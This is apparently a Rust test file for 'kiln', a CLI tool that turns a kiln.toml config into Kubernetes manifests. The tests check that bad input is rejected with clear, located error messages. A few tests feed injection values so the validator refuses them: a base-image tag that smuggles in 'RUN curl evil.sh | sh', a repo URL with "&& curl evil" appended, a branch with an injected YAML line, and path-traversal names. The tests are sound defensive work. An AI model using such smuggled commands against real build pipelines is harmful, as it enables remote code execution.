//! Every input mistake: exit code 2, nothing written, and a message that
//! names the file, line, column and key, with a hint.

use crate::Repo;

const HEAD: &str =
    "[project]\nname = \"shop\"\nregistry = \"ghcr.io/acme/shop\"\n\n[environments.dev]\n\n";

/// Runs `build` on `config`, checks that it failed cleanly, returns stderr.
#[track_caller]
fn rejected(config: &str) -> String {
    let repo = Repo::with_config(config);
    let run = repo.kiln(&["build"]).fails_with(2);
    assert_eq!(
        repo.contents().len(),
        1,
        "only kiln.toml may exist after a failed build"
    );
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
    run.stderr
}

/// A single problem, shown exactly.
#[track_caller]
fn rejected_with(config: &str, expected: &str) {
    let stderr = rejected(config);
    assert_eq!(
        stderr,
        format!("{expected}\n1 problem in `kiln.toml`; nothing was written\n")
    );
}

#[test]
fn invalid_toml_shows_where() {
    rejected_with(
        "[project\nname = \"shop\"\n",
        "error: invalid TOML: unclosed table, expected `]`\n \
         --> kiln.toml:1:9\n  |\n1 | [project\n  |         ^\n",
    );
}

#[test]
fn unknown_key_suggests_the_right_one() {
    let config =
        format!("{HEAD}[services.users]\nlanguage = \"node\"\nversion = \"1\"\nprot = 8080\n");
    rejected_with(
        &config,
        "error: unknown key `services.users.prot`\n  \
         --> kiln.toml:10:1\n   |\n10 | prot = 8080\n   | ^^^^\n  = hint: did you mean `port`?\n",
    );
}

#[test]
fn wrong_type_names_the_key() {
    let config =
        format!("{HEAD}[services.users]\nlanguage = \"node\"\nversion = \"1\"\nport = \"8080\"\n");
    rejected_with(
        &config,
        "error: wrong value for `services.users.port`: invalid type: string \"8080\", expected a whole number from 1 to 65535\n  \
         --> kiln.toml:10:8\n   |\n10 | port = \"8080\"\n   |        ^^^^^^\n",
    );
}

#[test]
fn unknown_language_suggests_one() {
    let config = format!("{HEAD}[services.users]\nlanguage = \"nodejs\"\nversion = \"1\"\n");
    let stderr = rejected(&config);
    assert!(
        stderr.starts_with(
            "error: `services.users.language` cannot be `nodejs`\n --> kiln.toml:8:12\n"
        ),
        "{stderr}"
    );
    assert!(stderr.contains("= hint: did you mean `node`?"), "{stderr}");
}

#[test]
fn missing_project_name() {
    rejected_with(
        "[project]\nregistry = \"ghcr.io/a/b\"\n",
        "error: missing required key `project.name`\n --> kiln.toml:1:1\n  |\n1 | [project]\n  | ^^^^^^^^^\n",
    );
}

#[test]
fn names_that_are_not_labels_cannot_become_paths() {
    for (name, line) in [
        ("../x", "[services.\"../x\"]"),
        ("Users", "[services.Users]"),
        ("9lives", "[services.9lives]"),
    ] {
        let config = format!("{HEAD}{line}\nimage = \"redis:7.2\"\nport = 6379\n");
        let stderr = rejected(&config);
        let expected_key = if name == "../x" {
            "services.\"../x\"".to_string()
        } else {
            format!("services.{name}")
        };
        assert!(
            stderr.starts_with(&format!(
                "error: `{name}` in `{expected_key}` is not a valid name\n --> kiln.toml:7:11\n"
            )),
            "{stderr}"
        );
        assert!(
            stderr.contains("hint: names become Kubernetes names and file paths"),
            "{stderr}"
        );
    }
    let stderr = rejected("[project]\nname = \"../etc\"\n[environments.dev]\n");
    assert!(
        stderr.starts_with(
            "error: `../etc` in `project.name` is not a valid name\n --> kiln.toml:2:8\n"
        ),
        "{stderr}"
    );
    let stderr = rejected(&HEAD.replace("[environments.dev]", "[environments.\"a/b\"]"));
    assert!(
        stderr.contains("`a/b` in `environments.\"a/b\"` is not a valid name"),
        "{stderr}"
    );
}

#[test]
fn calls_naming_an_unknown_service() {
    let config = format!(
        "{HEAD}[services.users]\nlanguage = \"node\"\nversion = \"1\"\nport = 8080\ncalls = [\"ordrs\"]\n\n\
         [services.orders]\nlanguage = \"java\"\nversion = \"2\"\nport = 8080\n"
    );
    rejected_with(
        &config,
        "error: unknown service `ordrs` in `services.users.calls[0]`\n  \
         --> kiln.toml:11:10\n   |\n11 | calls = [\"ordrs\"]\n   |          ^^^^^^^\n  = hint: did you mean `orders`?\n",
    );
}

#[test]
fn duplicate_ports() {
    let config = format!(
        "{HEAD}[services.users]\nlanguage = \"node\"\nversion = \"1\"\nport = 8080\nports = {{ admin = 8080 }}\n"
    );
    let stderr = rejected(&config);
    assert!(
        stderr.starts_with("error: port 8080 in `services.users.ports.admin` is already used by `port`\n  --> kiln.toml:11:19\n"),
        "{stderr}"
    );
    let sidecar =
        format!("{HEAD}[services.users]\nlanguage = \"node\"\nversion = \"1\"\nport = 15001\n");
    assert!(
        rejected(&sidecar)
            .contains("port 15001 in `services.users.port` is reserved by the Istio sidecar")
    );
}

#[test]
fn the_metrics_port_may_share_a_named_port() {
    let config = format!(
        "{HEAD}[services.users]\nlanguage = \"node\"\nversion = \"1\"\nport = 8080\nmetrics_port = 9090\nports = {{ admin = 9090 }}\n"
    );
    let repo = Repo::with_config(&config);
    repo.kiln(&["build"]).success();
    let deployment = repo.yaml("deploy/dev/services/users/deployment.yaml");
    let ports = &deployment["spec"]["template"]["spec"]["containers"][0]["ports"];
    assert_eq!(ports.as_sequence().unwrap().len(), 2);
    assert_eq!(
        deployment["spec"]["template"]["metadata"]["annotations"]["prometheus.io/port"],
        "9090"
    );
}

#[test]
fn keys_that_would_be_ignored_are_refused() {
    let job = format!(
        "{HEAD}[services.job]\nlanguage = \"python\"\nversion = \"1\"\nkind = \"cronjob\"\nschedule = \"@daily\"\nreplicas = 3\n"
    );
    assert!(
        rejected(&job)
            .contains("`services.job.replicas` has no effect: a cronjob runs one pod per schedule")
    );
    let tcp =
        format!("{HEAD}[services.cache]\nimage = \"redis:7.2\"\nport = 6379\nhealth = \"/ping\"\n");
    assert!(
        rejected(&tcp).contains(
            "`services.cache.health` only applies to services whose `protocol` is `http`"
        )
    );
    let metrics = format!(
        "{HEAD}[services.users]\nlanguage = \"node\"\nversion = \"1\"\nport = 8080\nmetrics = false\nmetrics_port = 9090\n"
    );
    assert!(
        rejected(&metrics)
            .contains("`services.users.metrics_port` has no effect: `metrics` is false")
    );
}

#[test]
fn root_ids_and_twice_mounted_paths_are_refused() {
    let config = format!(
        "{HEAD}[services.db]\nimage = \"postgres:16.4\"\nkind = \"stateful\"\nport = 5432\nstorage = \"1Gi\"\n\
         run_as_group = 0\nwritable_paths = [\"/var/run\", \"/var/run/\"]\n"
    );
    let stderr = rejected(&config);
    assert!(
        stderr.contains("`services.db.run_as_group` is 0, which is root"),
        "{stderr}"
    );
    assert!(
        stderr.contains("`/var/run/` in `services.db.writable_paths[1]` is mounted twice"),
        "{stderr}"
    );
}

#[test]
fn egress_outside_the_cluster_takes_a_cidr() {
    let config = format!(
        "{HEAD}[services.users]\nlanguage = \"node\"\nversion = \"1\"\nport = 8080\negress = [{{ cidr = \"10.0.0.300/8\", port = 443 }}]\n"
    );
    assert!(
        rejected(&config)
            .contains("`10.0.0.300/8` in `services.users.egress[0].cidr` is not a CIDR block")
    );
    let repo = Repo::with_config(&config.replace("10.0.0.300/8", "203.0.113.0/24"));
    repo.kiln(&["build"]).success();
    let policy = repo.yaml("deploy/dev/services/users/networkpolicy.yaml");
    assert_eq!(
        policy["spec"]["egress"][0]["to"][0]["ipBlock"]["cidr"],
        "203.0.113.0/24"
    );
    assert_eq!(policy["spec"]["egress"][0]["ports"][0]["port"], 443);
}

#[test]
fn a_team_that_cannot_be_a_label() {
    let stderr =
        rejected("[project]\nname = \"shop\"\nteam = \"Commerce & Co\"\n[environments.dev]\n");
    assert!(
        stderr.contains("`Commerce & Co` in `project.team` cannot be a Kubernetes label value"),
        "{stderr}"
    );
}

#[test]
fn built_service_without_version() {
    let config = format!("{HEAD}[services.users]\nlanguage = \"node\"\nport = 8080\n");
    rejected_with(
        &config,
        "error: service `users` is built from source but has no `version`\n \
         --> kiln.toml:7:11\n  |\n7 | [services.users]\n  |           ^^^^^\n  \
         = hint: add `version = \"1.0.0\"` to `[services.users]`; it is the image tag\n",
    );
}

#[test]
fn quantities_kubernetes_would_reject() {
    let config = format!(
        "{HEAD}[services.users]\nlanguage = \"node\"\nversion = \"1\"\nport = 8080\ncpu = \"2 cores\"\n"
    );
    rejected_with(
        &config,
        "error: `2 cores` in `services.users.cpu` is not a cpu quantity Kubernetes accepts\n  \
         --> kiln.toml:11:7\n   |\n11 | cpu = \"2 cores\"\n   |       ^^^^^^^^^\n  \
         = hint: write a number with an optional unit, such as `250m` or `1`\n",
    );
    let stderr = rejected(&format!("{HEAD}[defaults]\nmemory = \"lots\"\n"));
    assert!(
        stderr.contains("`lots` in `defaults.memory` is not a memory quantity"),
        "{stderr}"
    );
    let stderr = rejected(&format!(
        "{HEAD}[defaults]\ncpu = \"1\"\ncpu_limit = \"500m\"\n"
    ));
    assert!(
        stderr.contains("limit `500m` in `defaults.cpu_limit` is below the request `1`"),
        "{stderr}"
    );
}

#[test]
fn autoscale_min_above_max() {
    let config = HEAD.replace(
        "[environments.dev]\n",
        "[environments.dev]\nautoscale = { min = 5, max = 2 }\n",
    );
    rejected_with(
        &config,
        "error: `environments.dev.autoscale` has min 5 above max 2\n \
         --> kiln.toml:6:1\n  |\n6 | autoscale = { min = 5, max = 2 }\n  | ^^^^^^^^^\n  = hint: set `min` to at most `max`\n",
    );
}

#[test]
fn canary_weight_outside_range() {
    let config = format!(
        "{HEAD}[services.users]\nlanguage = \"node\"\nversion = \"1\"\nport = 8080\ncanary = {{ version = \"2\", weight = 120 }}\n"
    );
    let stderr = rejected(&config);
    assert!(
        stderr.starts_with("error: `services.users.canary.weight` must be from 0 to 100, not 120\n  --> kiln.toml:11:36\n"),
        "{stderr}"
    );
}

#[test]
fn cronjob_schedules() {
    let job = format!(
        "{HEAD}[services.nightly]\nlanguage = \"python\"\nversion = \"1\"\nkind = \"cronjob\"\n"
    );
    let stderr = rejected(&job);
    assert!(
        stderr.starts_with("error: cronjob `nightly` has no `schedule`\n --> kiln.toml:7:11\n"),
        "{stderr}"
    );
    let stderr = rejected(&format!("{job}schedule = \"0 25 * * *\"\n"));
    assert!(
        stderr.starts_with(
            "error: `0 25 * * *` in `services.nightly.schedule` is not a valid cron schedule: \
             the hour field `25` has `25`, outside 0-23\n  --> kiln.toml:11:12\n"
        ),
        "{stderr}"
    );
    let stderr = rejected(&format!("{job}schedule = \"every night\"\n"));
    assert!(
        stderr.contains("is not a valid cron schedule: it has 2 fields, not 5"),
        "{stderr}"
    );
}

#[test]
fn override_naming_an_unknown_environment() {
    let config = format!(
        "{HEAD}[environments.prod]\n\n[services.users]\nlanguage = \"node\"\nversion = \"1\"\nport = 8080\n\n\
         [services.users.environments.prd]\nreplicas = 5\n"
    );
    rejected_with(
        &config,
        "error: unknown environment `prd` in `services.users.environments.prd`\n  \
         --> kiln.toml:14:30\n   |\n14 | [services.users.environments.prd]\n   |                              ^^^\n  \
         = hint: did you mean `prod`?\n",
    );
}

#[test]
fn every_problem_is_reported_in_one_run_in_file_order() {
    let config = format!(
        "{HEAD}[services.users]\nlanguage = \"node\"\nport = 8080\ncpu = \"2 cores\"\ncalls = [\"ordrs\"]\n\n\
         [services.job]\nlanguage = \"python\"\nversion = \"1\"\nkind = \"cronjob\"\n"
    );
    let stderr = rejected(&config);
    let lines: Vec<&str> = stderr
        .lines()
        .filter(|l| l.starts_with("error: "))
        .collect();
    assert_eq!(
        lines,
        [
            "error: service `users` is built from source but has no `version`",
            "error: `2 cores` in `services.users.cpu` is not a cpu quantity Kubernetes accepts",
            "error: unknown service `ordrs` in `services.users.calls[0]`",
            "error: cronjob `job` has no `schedule`",
        ]
    );
    assert!(
        stderr.ends_with("4 problems in `kiln.toml`; nothing was written\n"),
        "{stderr}"
    );
}

#[test]
fn no_environments() {
    let stderr = rejected("[project]\nname = \"shop\"\n");
    assert!(
        stderr.starts_with("error: no environments defined\n"),
        "{stderr}"
    );
    assert!(
        stderr.contains("hint: add at least one, e.g. `[environments.dev]`"),
        "{stderr}"
    );
}

#[test]
fn secrets_are_references_not_values() {
    let config = format!(
        "{HEAD}[services.users]\nlanguage = \"node\"\nversion = \"1\"\nport = 8080\nsecrets = {{ DATABASE_URL = \"postgres://u:p@db\" }}\n"
    );
    let stderr = rejected(&config);
    assert!(
        stderr.contains(
            "`postgres://u:p@db` in `services.users.secrets.DATABASE_URL` is not a secret reference"
        ),
        "{stderr}"
    );
    assert!(
        stderr.contains("kiln never stores secret values"),
        "{stderr}"
    );
}

#[test]
fn latest_and_untagged_images_are_refused() {
    for image in ["redis", "redis:latest"] {
        let config = format!("{HEAD}[services.cache]\nimage = \"{image}\"\nport = 6379\n");
        let stderr = rejected(&config);
        assert!(
            stderr.contains(&format!(
                "image `{image}` in `services.cache.image` has no pinned tag"
            )),
            "{stderr}"
        );
    }
}

#[test]
fn a_file_that_is_not_utf8() {
    let repo = Repo::new();
    std::fs::write(
        repo.path().join("kiln.toml"),
        b"[project]\nname = \"\xff\"\n",
    )
    .unwrap();
    repo.kiln(&["check"])
        .fails_with(2)
        .stderr_has("error: invalid TOML: the file is not UTF-8\n --> kiln.toml:2:9\n");
}

#[test]
fn check_reports_the_same_problems_as_build() {
    let repo = Repo::with_config(&format!(
        "{HEAD}[services.users]\nlanguage = \"node\"\nport = 8080\n"
    ));
    repo.kiln(&["check"])
        .fails_with(2)
        .stderr_has("has no `version`");
}

#[test]
fn usage_errors_exit_2() {
    let repo = Repo::new();
    repo.kiln(&["build", "--frobnicate"]).fails_with(2);
    repo.kiln(&["launch"]).fails_with(2);
}

const WEB: &str =
    "[services.users]\nlanguage = \"node\"\nversion = \"1\"\nport = 8080\nroute = \"/users\"\n";

#[test]
fn durations_must_be_ones_istio_and_prometheus_read() {
    let config = format!("{HEAD}{WEB}timeout = \"10 seconds\"\n");
    rejected_with(
        &config,
        "error: `10 seconds` in `services.users.timeout` is not a duration\n  \
         --> kiln.toml:12:11\n   |\n12 | timeout = \"10 seconds\"\n   |           ^^^^^^^^^^^^\n  \
         = hint: write whole numbers with the units `h`, `m`, `s` and `ms`, in that order, such as `30s` or `1m30s`\n",
    );
    let stderr = rejected(&format!(
        "{HEAD}{WEB}scrape_interval = \"1d\"\nretries = {{ per_try_timeout = \"1.5s\" }}\n\
         outlier_detection = {{ interval = \"0s\", base_ejection_time = \"s\" }}\n"
    ));
    for key in [
        "services.users.scrape_interval",
        "services.users.retries.per_try_timeout",
        "services.users.outlier_detection.interval",
        "services.users.outlier_detection.base_ejection_time",
    ] {
        assert!(
            stderr.contains(&format!("in `{key}` is not a duration")),
            "{key}: {stderr}"
        );
    }
}

#[test]
fn retry_and_ejection_numbers_have_ranges() {
    let stderr = rejected(&format!(
        "{HEAD}{WEB}retries = {{ attempts = 11 }}\noutlier_detection = {{ max_ejection_percent = 0 }}\n"
    ));
    assert!(
        stderr.contains("error: `services.users.retries.attempts` must be from 0 to 10, not 11\n"),
        "{stderr}"
    );
    assert!(
        stderr.contains("= hint: it is how often a failed request is tried again"),
        "{stderr}"
    );
    assert!(
        stderr.contains(
            "`services.users.outlier_detection.max_ejection_percent` must be from 1 to 100, not 0"
        ),
        "{stderr}"
    );
}

#[test]
fn misspelled_keys_of_the_new_tables_get_a_suggestion() {
    let stderr = rejected(&format!("{HEAD}{WEB}retries = {{ attemps = 3 }}\n"));
    assert!(
        stderr.starts_with("error: unknown key `services.users.retries.attemps`\n"),
        "{stderr}"
    );
    assert!(
        stderr.contains("= hint: did you mean `attempts`?"),
        "{stderr}"
    );
    let stderr =
        rejected(&HEAD.replace("[environments.dev]\n", "[environments.dev]\nlogs = false\n"));
    assert!(
        stderr.contains("unknown key `environments.dev.logs`"),
        "{stderr}"
    );
}

#[test]
fn timeouts_need_a_route_or_a_canary() {
    let config = format!(
        "{HEAD}[services.users]\nlanguage = \"node\"\nversion = \"1\"\nport = 8080\ntimeout = \"5s\"\n"
    );
    rejected_with(
        &config,
        "error: `services.users.timeout` has no effect: the service has no `route` and no `canary`\n  \
         --> kiln.toml:11:11\n   |\n11 | timeout = \"5s\"\n   |           ^^^^\n  \
         = hint: timeouts and retries apply to the gateway route and the canary split; remove the key or add a `route`\n",
    );
}

#[test]
fn destination_rule_settings_need_a_service() {
    let config = format!(
        "{HEAD}[services.jobs]\nkind = \"worker\"\nlanguage = \"go\"\nversion = \"1\"\n\
         connection_pool = {{ max_connections = 10 }}\n"
    );
    let stderr = rejected(&config);
    assert!(
        stderr.starts_with(
            "error: `services.jobs.connection_pool` needs a `web` or `stateful` service with a `port`\n  --> kiln.toml:11:1\n"
        ),
        "{stderr}"
    );
}

#[test]
fn a_canary_needs_the_mesh_in_its_environment() {
    let config = format!(
        "[project]\nname = \"shop\"\nregistry = \"ghcr.io/acme/shop\"\nmesh = false\n\n\
         [environments.dev]\n[environments.prod]\nmesh = true\n\n{WEB}canary = {{ version = \"2\", weight = 5 }}\n"
    );
    // The route exposes nothing in `dev` either: a problem of its own.
    let stderr = rejected(&config);
    let expected = "error: `services.users.canary` needs the mesh, which is off in environment `dev`\n  \
         --> kiln.toml:15:1\n   |\n15 | canary = { version = \"2\", weight = 5 }\n   | ^^^^^^\n  \
         = hint: the traffic split is an Istio VirtualService: remove the canary, set `mesh = true` in `[environments.dev]`, or split at the gateway with `traffic = \"gateway-api\"`\n";
    assert!(stderr.contains(expected), "{stderr}");
    assert!(stderr.contains("2 problems in `kiln.toml`"), "{stderr}");
}

#[test]
fn the_logging_namespace_must_fit_in_63_characters() {
    let project = "p".repeat(40);
    let environment = "e".repeat(22);
    let config = format!("[project]\nname = \"{project}\"\n\n[environments.{environment}]\n");
    let stderr = rejected(&config);
    assert!(
        stderr.starts_with(&format!(
            "error: the logging namespace `{project}-{environment}-logging` of `environments.{environment}` is longer than 63 characters\n"
        )),
        "{stderr}"
    );
    assert!(stderr.contains("or set `logging = false`"), "{stderr}");
    let repo = Repo::with_config(&config.replace("\n\n[", "\nlogging = false\n\n["));
    repo.kiln(&["check"]).success();
}

#[test]
fn elasticsearch_settings_are_checked() {
    let config = HEAD.replace(
        "[environments.dev]\n",
        "[environments.dev]\nelasticsearch = { host = \"https://es:9200\", port = 0, index_prefix = \"Logs\", user = \"-x\", password = \"hunter2\" }\n",
    );
    let stderr = rejected(&config);
    for expected in [
        "`https://es:9200` in `environments.dev.elasticsearch.host` is not a host name or IPv4 address",
        "`environments.dev.elasticsearch.port` must be from 1 to 65535, not 0",
        "`Logs` in `environments.dev.elasticsearch.index_prefix` is not a usable Elasticsearch index prefix",
        "`hunter2` in `environments.dev.elasticsearch.password` is not a secret reference",
        "`-x` in `environments.dev.elasticsearch.user` cannot be a Kubernetes label value",
    ] {
        assert!(stderr.contains(expected), "{expected}: {stderr}");
    }
    assert!(
        stderr.ends_with("5 problems in `kiln.toml`; nothing was written\n"),
        "{stderr}"
    );
}

#[test]
fn alert_thresholds_are_checked() {
    let config = HEAD.replace(
        "[environments.dev]\n",
        "[environments.dev.alerts]\nseverity = \"wake me up\"\nerror_percent = 0\nlatency_p99_ms = 0\nvolume_percent = 100\n",
    );
    let stderr = rejected(&config);
    for expected in [
        "`wake me up` in `environments.dev.alerts.severity` cannot be a Kubernetes label value",
        "`environments.dev.alerts.error_percent` must be more than 0 and at most 100, not 0",
        "`environments.dev.alerts.latency_p99_ms` must be from 1 to 4294967295, not 0",
        "`environments.dev.alerts.volume_percent` must be from 1 to 99, not 100",
    ] {
        assert!(stderr.contains(expected), "{expected}: {stderr}");
    }
}

#[test]
fn gitops_needs_a_repository() {
    let config = HEAD.replace(
        "registry = \"ghcr.io/acme/shop\"\n",
        "registry = \"ghcr.io/acme/shop\"\ngitops = \"argocd\"\n",
    );
    rejected_with(
        &config,
        "error: `project.gitops` is set, so `project.repo_url` is required\n \
         --> kiln.toml:4:10\n  |\n4 | gitops = \"argocd\"\n  |          ^^^^^^^^\n  \
         = hint: add `repo_url = \"https://github.com/your-org/your-app.git\"` to `[project]`: \
         Argo CD reads `deploy/<env>` from that repository\n",
    );
}

#[test]
fn base_images_must_be_pinned_and_plain() {
    const KEY: &str = "services.users.build_image";
    for (image, message) in [
        (
            "node:latest",
            format!("image `node:latest` in `{KEY}` has no pinned tag"),
        ),
        ("node", format!("image `node` in `{KEY}` has no pinned tag")),
        (
            "node:22\nRUN curl evil.sh | sh",
            format!(
                "`node:22\nRUN curl evil.sh | sh` in `{KEY}` is not an image reference a container runtime can pull: \
                 the tag `22\nRUN curl evil.sh | sh` is not"
            ),
        ),
        (
            "node:${TAG}",
            format!(
                "`node:${{TAG}}` in `{KEY}` is not an image reference a container runtime can pull: the tag `${{TAG}}`"
            ),
        ),
    ] {
        let config = format!(
            "{HEAD}[services.users]\nlanguage = \"node\"\nversion = \"1\"\nport = 8080\nbuild_image = {image:?}\n"
        );
        let stderr = rejected(&config);
        // A message's further lines are indented under its first, as rustc does.
        let message = message.replace('\n', "\n       ");
        assert!(stderr.starts_with(&format!("error: {message}")), "{stderr}");
    }
}

#[test]
fn base_images_only_for_built_services() {
    let config = format!(
        "{HEAD}[services.cache]\nimage = \"redis:7.2\"\nport = 6379\nruntime_image = \"redis:7.2\"\n"
    );
    let stderr = rejected(&config);
    assert!(
        stderr.starts_with(
            "error: `services.cache.runtime_image` only applies to services built from source\n"
        ),
        "{stderr}"
    );
}

#[test]
fn argocd_keys_need_gitops() {
    let config = HEAD.replace(
        "[environments.dev]\n",
        "[environments.dev]\nauto_sync = true\ncluster = \"https://k8s.example.com\"\n",
    );
    let stderr = rejected(&config);
    assert!(
        stderr.contains(
            "error: `environments.dev.auto_sync` only applies when `project.gitops` is set\n"
        ),
        "{stderr}"
    );
    assert!(
        stderr.contains(
            "error: `environments.dev.cluster` only applies when `project.gitops` is set\n"
        ),
        "{stderr}"
    );
}

#[test]
fn urls_and_branches_that_could_break_a_pipeline() {
    let config = HEAD.replace(
        "registry = \"ghcr.io/acme/shop\"\n",
        "registry = \"ghcr.io/acme/shop\"\ngitops = \"argocd\"\nrepo_url = \"https://x.example.com/a.git' && curl evil\"\nbranch = \"main\\nmalicious: true\"\n",
    )
    .replace("[environments.dev]\n", "[environments.dev]\ncluster = \"http://plain.example.com\"\n");
    let stderr = rejected(&config);
    for expected in [
        "in `project.repo_url` is not a git repository URL",
        "in `project.branch` is not a usable branch name",
        "`http://plain.example.com` in `environments.dev.cluster` is not a cluster API server URL",
    ] {
        assert!(stderr.contains(expected), "{expected}\n{stderr}");
    }
    assert!(
        stderr.ends_with("3 problems in `kiln.toml`; nothing was written\n"),
        "{stderr}"
    );
}

#[test]
fn deploy_on_takes_push_or_tag() {
    let config = HEAD.replace(
        "[environments.dev]\n",
        "[environments.dev]\ndeploy_on = \"merge\"\n",
    );
    let stderr = rejected(&config);
    assert!(
        stderr.starts_with("error: `environments.dev.deploy_on` cannot be `merge`\n"),
        "{stderr}"
    );
}

/// Every unknown key at once, in file order, each with serde's own words.
#[test]
fn every_unknown_key_is_reported_at_once() {
    let config = "[project]\nname = \"shop\"\nregistry = \"ghcr.io/acme/shop\"\ncolour = \"blue\"\n\n\
                  [environments.dev]\nreplica = 2\n\n[services.api]\nlanguage = \"node\"\n\
                  version = \"1.0.0\"\nport = 8080\nprot = 1\n";
    assert_eq!(
        rejected(config),
        "error: unknown key `project.colour`\n --> kiln.toml:4:1\n  |\n4 | colour = \"blue\"\n  | ^^^^^^\n  \
         = hint: expected one of `name`, `registry`, `team`, `ci`, `monitoring_namespace`, \
         `mesh_namespace`, `gateway`, `tracing`, `mesh`, `mesh_mode`, `monitoring`, `logging`, `gitops`, `repo_url`, \
         `branch`, `kiln`, `local`, `local_env`, `external_secrets`, `traffic`, `gateway_class`, `ingress_class`, `tls`, `plain_http`\n\n\
         error: unknown key `environments.dev.replica`\n --> kiln.toml:7:1\n  |\n7 | replica = 2\n  \
         | ^^^^^^^\n  = hint: did you mean `replicas`?\n\n\
         error: unknown key `services.api.prot`\n  --> kiln.toml:13:1\n   |\n13 | prot = 1\n   \
         | ^^^^\n  = hint: did you mean `port`?\n\n\
         3 problems in `kiln.toml`; nothing was written\n"
    );
}

/// What validate finds and what resolve finds come together, not one
/// after the other is fixed.
#[test]
fn validate_and_resolve_problems_come_together() {
    let config = format!(
        "{HEAD}[services.api]\nlanguage = \"node\"\nversion = \"1.0.0\"\nport = 8080\n\
         calls = [\"apii\"]\ncpu = \"50m\"\ncpu_limit = \"10m\"\n"
    );
    assert_eq!(
        rejected(&config),
        "error: unknown service `apii` in `services.api.calls[0]`\n  --> kiln.toml:11:10\n   |\n\
         11 | calls = [\"apii\"]\n   |          ^^^^^^\n  = hint: did you mean `api`?\n\n\
         error: limit `10m` in `services.api.cpu_limit` is below the request `50m`\n  --> \
         kiln.toml:13:13\n   |\n13 | cpu_limit = \"10m\"\n   |             ^^^^^\n  = hint: a \
         limit must be at least the request\n\n2 problems in `kiln.toml`; nothing was written\n"
    );
}
